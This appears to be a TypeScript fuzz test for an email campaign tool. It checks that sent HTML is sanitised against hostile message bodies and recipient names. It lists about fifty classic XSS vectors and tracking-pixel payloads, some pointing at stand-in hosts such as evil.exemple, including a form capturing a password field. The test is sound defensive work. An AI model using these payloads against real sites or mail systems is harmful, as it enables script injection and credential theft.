// CH-EMAIL / SEC-3, fuzzed with a fixed seed: bodies (HTML, or Markdown with raw HTML) built from
// classic XSS vectors, tracking pixels and random text, with a hostile recipient name, composed by
// the sending code (through the preview, which is the HTML sent): the HTML never holds a tag or
// attribute outside the allowlist, a link other than http/https/mailto, or a style that loads.
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeOrg, makeSource } from '../../../test/factories.ts';
import { htmlProblems } from '../../../test/html-allowlist.ts';
import { openTestServices, type TestServices } from '../../../test/test-db.ts';
import { addContact } from '../contacts/contacts.ts';
import { saveSegment } from '../segments/segments.ts';
import { createCampaign } from './campaigns.ts';
import { previewCampaign } from './preview-campaign.ts';

let s: TestServices;
let orgId: string;
let segmentId: string;

beforeAll(async () => {
  s = await openTestServices({ clock: () => new Date('2026-11-24T10:00:00Z') });
  orgId = (await makeOrg(s, { noticePurposes: 'informer', noticeRecipients: 'l’équipe' })).id;
  const source = await makeSource(s, orgId, { type: 'member_file' });
  await addContact(s.db, {
    keys: s.keys,
    orgId,
    sourceId: source.id,
    identity: {
      firstNames: '"><svg/onload=alert(1)>',
      birthName: "'><img src=x onerror=alert(1)>",
      email: 'alice@exemple.fr',
    },
    actor: 'test',
  });
  segmentId = (
    await saveSegment(s.db, { orgId, input: { name: 'Tous', where: { and: [] } }, actor: 'test' })
  ).id;
});
afterAll(() => s.dispose());

// The classic vectors (OWASP XSS filter evasion cheat sheet and friends), and tracking pixels.
const VECTORS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.exemple/xss.js></SCRIPT>',
  '<img src="javascript:alert(1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=x onerror=alert(1)>',
  '<img src="https://pixel.exemple/open.gif" width="1" height="1">',
  '<img srcset="https://pixel.exemple/a.gif 1x">',
  '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">',
  '<picture><source srcset="https://pixel.exemple/p.webp"></picture>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="https://evil.exemple/x.swf">',
  '<form action="https://evil.exemple"><input type="password" name="p"><button formaction="javascript:alert(1)">go</button></form>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.exemple">x</a>',
  '<a href="https://exemple-2027.fr" onclick="alert(1)">ok</a>',
  '<div style="background-image:url(https://pixel.exemple/bg.gif)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<style>@import "https://evil.exemple/x.css";</style>',
  '<link rel="stylesheet" href="https://evil.exemple/x.css">',
  '<base href="https://evil.exemple/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<table background="https://pixel.exemple/t.gif"><tr><td background="javascript:alert(1)">x</td></tr></table>',
  '<video poster="https://pixel.exemple/v.gif"><source src="x"></video>',
  '<audio src="https://pixel.exemple/a.mp3"></audio>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<<script>alert(1);//<</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<details open ontoggle=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<isindex action="javascript:alert(1)" type=image>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<template><script>alert(1)</script></template>',
  '"><script>alert(1)</script>',
  '<p>Bonjour {{firstName}} {{lastName}}</p>',
  '<a href="{{firstName}}">lien</a>',
  '<a href="https://exemple-2027.fr/?n={{lastName}}" title="{{firstName}}">lien</a>',
  '[x](javascript:alert(1))',
  '![pixel](https://pixel.exemple/p.gif)',
  '<https://exemple-2027.fr>',
  '# Titre\n\n',
];
const SAFE = [
  '<p>',
  '</p>',
  '<b>',
  '</b>',
  '<ul><li>',
  '</li></ul>',
  '\n\n',
  ' ',
  '"',
  "'",
  '<',
  '>',
  '&',
];

const body = fc
  .array(
    fc.oneof(
      { weight: 4, arbitrary: fc.constantFrom(...VECTORS) },
      { weight: 2, arbitrary: fc.constantFrom(...SAFE) },
      { weight: 1, arbitrary: fc.string({ maxLength: 12 }).map((t) => t.replace(/[{}]/g, '')) },
    ),
    { minLength: 1, maxLength: 12 },
  )
  .map((parts) => parts.join(''))
  .filter((b) => b.trim().length > 0);

describe('hostile HTML bodies (CH-EMAIL, SEC-3)', () => {
  it('CH-EMAIL/SEC-3: no hostile body or name makes the sent HTML hold a script, frame, form, event handler, unsafe link or image', async () => {
    await fc.assert(
      fc.asyncProperty(body, fc.constantFrom('html', 'markdown'), async (text, bodyFormat) => {
        const campaign = await createCampaign(s.db, {
          orgId,
          input: {
            segmentId,
            fromName: 'Liste Exemple 2027',
            fromEmail: 'contact@exemple-2027.fr',
            subject: 'Réunion publique',
            body: text,
            bodyFormat,
          },
          actor: 'test',
          clock: s.clock,
        });
        const preview = await previewCampaign(s.db, {
          keys: s.keys,
          campaignId: campaign.id,
          publicUrl: 'https://isoloir.exemple-2027.fr',
          mailDomain: 'exemple-2027.fr',
          actor: 'test',
          clock: s.clock,
        });
        expect(htmlProblems(preview.html), text).toEqual([]);
      }),
      { seed: 20261201, numRuns: 120 },
    );
  }, 120_000);
});
